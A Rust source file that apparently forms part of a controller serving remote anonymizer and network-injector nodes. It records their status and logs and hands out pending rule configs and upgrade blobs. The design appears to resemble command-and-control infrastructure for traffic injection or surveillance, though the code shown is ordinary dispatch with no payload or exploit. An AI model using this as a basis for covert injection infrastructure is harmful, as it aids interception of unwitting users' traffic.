//! Inbound command execution.
//!
//! Takes the normalized, decrypted command batch of one request plus the
//! element it is bound to, applies each command against the DB, and emits
//! one response object per known command in input order. Unknown tags
//! produce nothing.

use relaygrid_protocol::command::{response, Command, CommandName};
use serde_json::Value;

use crate::db::Db;
use crate::error::ControllerError;
use crate::handler::RequestMeta;
use crate::registry::Element;

/// Display-name tag written into DB status records for anonymizers.
const ANON_TAG: &str = "RCS::ANON::";
/// Display-name tag for injectors.
const INJECTOR_TAG: &str = "RCS::NI::";

/// Kind strings the DB status table keys on.
const KIND_ANONYMIZER: &str = "anonymizer";
const KIND_INJECTOR: &str = "injector";

/// Execute a command batch for `element`. Responses preserve input order;
/// commands this controller does not serve (CHECK, FORWARD and the push
/// family are peer-side) are skipped like unknown tags.
pub async fn execute(
    db: &dyn Db,
    element: &Element,
    batch: &[Value],
    meta: &RequestMeta,
) -> Result<Vec<Value>, ControllerError> {
    let mut responses = Vec::with_capacity(batch.len());

    for raw in batch {
        let Some(command) = Command::decode(raw)? else {
            tracing::debug!("[NC] dropping unknown command from {}", element.name);
            continue;
        };

        match command {
            Command::Status(params) => {
                let display_str = display_name(element);
                let address = if element.is_anonymizer() {
                    element.address.clone()
                } else {
                    meta.forwarded_for.clone().unwrap_or_default()
                };
                let kind = kind_tag(element);
                let stats = normalize_stats(params.stats);

                tracing::info!(
                    "[NC] {} reports status {} ({})",
                    display_str,
                    params.status,
                    params.msg
                );
                db.update_status(
                    &display_str,
                    &address,
                    &params.status,
                    &params.msg,
                    stats,
                    kind,
                    &params.version,
                )
                .await?;

                if element.is_anonymizer() {
                    db.update_collector_version(&element.id, &params.version).await?;
                } else {
                    db.update_injector_version(&element.id, &params.version).await?;
                }
                responses.push(response::ok(CommandName::Status));
            }

            Command::Log(params) => {
                if element.is_anonymizer() {
                    db.collector_add_log(&element.id, params.time, &params.kind, &params.desc)
                        .await?;
                } else {
                    db.injector_add_log(&element.id, params.time, &params.kind, &params.desc)
                        .await?;
                }
                responses.push(response::ok(CommandName::Log));
            }

            Command::ConfigRequest => {
                responses.push(blob_response(
                    CommandName::ConfigRequest,
                    db.injector_config(&element.id).await?,
                    "No new config",
                ));
            }

            Command::UpgradeRequest => {
                responses.push(blob_response(
                    CommandName::UpgradeRequest,
                    db.injector_upgrade(&element.id).await?,
                    "No new upgrade",
                ));
            }

            // Peer-side commands; an element sending them here is confused,
            // not hostile. Same treatment as an unknown tag.
            other => {
                tracing::debug!(
                    "[NC] ignoring peer-side command {} from {}",
                    other.name(),
                    element.name
                );
            }
        }
    }

    Ok(responses)
}

/// `RCS::ANON::<name>` / `RCS::NI::<name>` as the DB expects them.
pub fn display_name(element: &Element) -> String {
    if element.is_anonymizer() {
        format!("{ANON_TAG}{}", element.name)
    } else {
        format!("{INJECTOR_TAG}{}", element.name)
    }
}

fn kind_tag(element: &Element) -> &'static str {
    if element.is_anonymizer() {
        KIND_ANONYMIZER
    } else {
        KIND_INJECTOR
    }
}

/// Stats keys arrive as free-form strings; the DB status table expects the
/// canonical lower-case form. Values pass through untouched.
fn normalize_stats(
    stats: serde_json::Map<String, Value>,
) -> serde_json::Map<String, Value> {
    stats
        .into_iter()
        .map(|(k, v)| (k.trim().to_lowercase(), v))
        .collect()
}

/// CONFIG_REQUEST / UPGRADE_REQUEST reply: the blob base64-wrapped inside
/// the JSON (config replies additionally tag the payload as rules), or a
/// plain ERROR when nothing is pending.
fn blob_response(command: CommandName, blob: Option<Vec<u8>>, empty_msg: &str) -> Value {
    use base64::{engine::general_purpose::STANDARD as B64, Engine as _};
    match blob {
        Some(content) => {
            let msg = match command {
                CommandName::ConfigRequest => {
                    serde_json::json!({ "type": "rules", "body": B64.encode(content) })
                }
                _ => serde_json::json!({ "body": B64.encode(content) }),
            };
            response::ok_with(command, msg)
        }
        None => response::error(command, empty_msg),
    }
}
